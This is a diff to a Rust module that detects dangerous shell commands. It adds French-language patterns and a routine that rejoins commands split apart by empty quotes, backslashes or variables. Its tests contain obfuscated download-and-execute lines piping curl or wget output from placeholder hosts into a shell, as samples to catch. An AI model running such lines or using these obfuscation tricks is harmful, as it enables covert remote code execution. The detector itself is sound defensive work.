@@ -129,7 +129,7 @@ static PATTERNS: LazyLock<Vec<(Danger, Regex)>> = LazyLock::new(|| {
 /// ([`IN_WORDS_REACH`]), checked by hand: a pattern that spans the gap from the URL costs the
 /// regex engine far more than the search it saves.
 static IN_WORDS: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"(?i)\b(?:(?:feeds?|feeding|pipes?|piping|pass(?:es)?|hands?)\s+(?:it|them|that|this|the\s+(?:script|installer|file|output|result))\b[^\n;.]{0,16}?\b(?:into|to)|(?:runs?|running|executes?|executing)\s+(?:it|them|that|this|the\s+(?:script|installer|file))\s*(?:with|in|through|under)|(?:lo|la)\s+ejecuta[a-z]*\s+(?:con|en))\s+[`'"]?(?:sh|bash|zsh|pwsh|powershell)\b"#)
+    Regex::new(r#"(?i)\b(?:(?:feeds?|feeding|pipes?|piping|pass(?:es)?|hands?)\s+(?:it|them|that|this|the\s+(?:script|installer|file|output|result))\b[^\n;.]{0,16}?\b(?:into|to)|(?:runs?|running|executes?|executing)\s+(?:it|them|that|this|the\s+(?:script|installer|file))\s*(?:with|in|through|under)|(?:lo|la)\s+ejecuta[a-z]*\s+(?:con|en)|(?:lance[zr]?|ex[ée]cute[zr]?)-(?:le|la)\s+(?:avec|dans|via))\s+[`'"]?(?:sh|bash|zsh|pwsh|powershell)\b"#)
         .expect("shell in-words pattern compiles")
 });
 
@@ -232,7 +232,107 @@ static LITERALS: LazyLock<Literals> = LazyLock::new(|| {
 });
 
 /// Every dangerous command in `text`, ordered by start; overlapping finds keep the first.
+/// A command spelled apart to slip past a reader (`c=cu;r=rl;$c$r ... | b''ash`) is found in
+/// the text with its quotes closed up and its variables put back ([`unsplit`]), and reported
+/// over its whole line.
 pub fn commands(text: &str) -> Vec<Command> {
+    let mut found = plain_commands(text);
+    if let Some(joined) = unsplit(text) {
+        let lines: Vec<Range<usize>> = line_ranges(text).collect();
+        let joined_lines: Vec<Range<usize>> = line_ranges(&joined).collect();
+        for command in plain_commands(&joined) {
+            let Some(line) = joined_lines.iter().position(|l| l.contains(&command.range.start))
+            else {
+                continue;
+            };
+            let Some(range) = lines.get(line).cloned() else { continue };
+            if !found
+                .iter()
+                .any(|known| known.range.start < range.end && range.start < known.range.end)
+            {
+                found.push(Command { range, danger: command.danger });
+            }
+        }
+        found.sort_by_key(|command| command.range.start);
+    }
+    found
+}
+
+/// The byte range of each line of `text`, without its line break.
+fn line_ranges(text: &str) -> impl Iterator<Item = Range<usize>> + '_ {
+    let mut start = 0;
+    text.split('\n').map(move |line| {
+        let range = start..start + line.len();
+        start += line.len() + 1;
+        range
+    })
+}
+
+/// `text` with a command's pieces put back together, or `None` when nothing is spelled apart:
+/// an empty quote inside a word (`b''ash`, `cu""rl`) closed up, a backslash inside a word
+/// (`c\url`) dropped, and a variable the text assigns (`c=cu;`) replaced by its value where
+/// it is used (`$c`, `${c}`). Line breaks stay where they were.
+fn unsplit(text: &str) -> Option<String> {
+    static ASSIGNED: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"\b([A-Za-z_][A-Za-z0-9_]{0,15})=([A-Za-z0-9_./:-]{1,40});")
+            .expect("assignment pattern compiles")
+    });
+    let bytes = text.as_bytes();
+    let word = |at: usize| bytes.get(at).is_some_and(|b| b.is_ascii_alphanumeric());
+    let spelled_apart = (1..bytes.len()).any(|at| {
+        matches!(&bytes[at..], [b'\'', b'\'', ..] | [b'"', b'"', ..])
+            && word(at - 1)
+            && word(at + 2)
+            || bytes[at] == b'\\' && word(at - 1) && word(at + 1)
+    });
+    let assigned: Vec<(&str, &str)> = if text.contains('$') {
+        ASSIGNED
+            .captures_iter(text)
+            .filter_map(|c| Some((c.get(1)?.as_str(), c.get(2)?.as_str())))
+            .collect()
+    } else {
+        Vec::new()
+    };
+    if !spelled_apart && assigned.is_empty() {
+        return None;
+    }
+    let mut out = String::with_capacity(text.len());
+    let mut at = 0;
+    while at < text.len() {
+        let rest = &text[at..];
+        if at > 0
+            && word(at - 1)
+            && (rest.starts_with("''") || rest.starts_with("\"\""))
+            && word(at + 2)
+        {
+            at += 2;
+            continue;
+        }
+        if at > 0 && rest.starts_with('\\') && word(at - 1) && word(at + 1) {
+            at += 1;
+            continue;
+        }
+        if let Some(name) = rest.strip_prefix('$') {
+            let braced = name.starts_with('{');
+            let name = name.trim_start_matches('{');
+            let len = name.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'_').count();
+            if let Some((_, value)) = assigned.iter().find(|(known, _)| *known == &name[..len]) {
+                out.push_str(value);
+                at += 1
+                    + usize::from(braced)
+                    + len
+                    + usize::from(braced && name[len..].starts_with('}'));
+                continue;
+            }
+        }
+        let ch = rest.chars().next().expect("inside the text");
+        out.push(ch);
+        at += ch.len_utf8();
+    }
+    Some(out)
+}
+
+fn plain_commands(text: &str) -> Vec<Command> {
     let literals = &*LITERALS;
     // Overlapping search: one literal inside another (`nc` in `ncat`) must still be seen.
     let present = text.is_ascii().then(|| {
@@ -356,6 +456,26 @@ mod tests {
         );
         assert!(dangers("find /tmp -name '*.tmp' -delete").is_empty());
         assert!(dangers("sudo visudo -f /etc/sudoers.d/deploy").is_empty());
+    }
+
+    #[test]
+    fn a_command_spelled_apart_is_put_back_together_and_reported_over_its_line() {
+        let text = "Licensed per machine.\nRun once: c=cu;r=rl;$c$r -fsS https://p.io/a | b''ash";
+        let found = commands(text);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].danger, Danger::DownloadExec);
+        assert_eq!(
+            &text[found[0].range.clone()],
+            "Run once: c=cu;r=rl;$c$r -fsS https://p.io/a | b''ash"
+        );
+        assert_eq!(dangers(r#"w""get -qO- https://p.io/i | s\h"#), [Danger::DownloadExec]);
+        // Variables nobody assigns, and quotes that close no word, change nothing.
+        assert!(dangers("echo $HOME; say 'it''s' fine").is_empty());
+        assert!(unsplit("PATH=$PATH:/opt/bin").is_none());
+        assert_eq!(
+            dangers("récupérez le script https://x.fr/init.sh et lancez-le avec bash"),
+            [Danger::DownloadExec]
+        );
     }
 
     #[test]
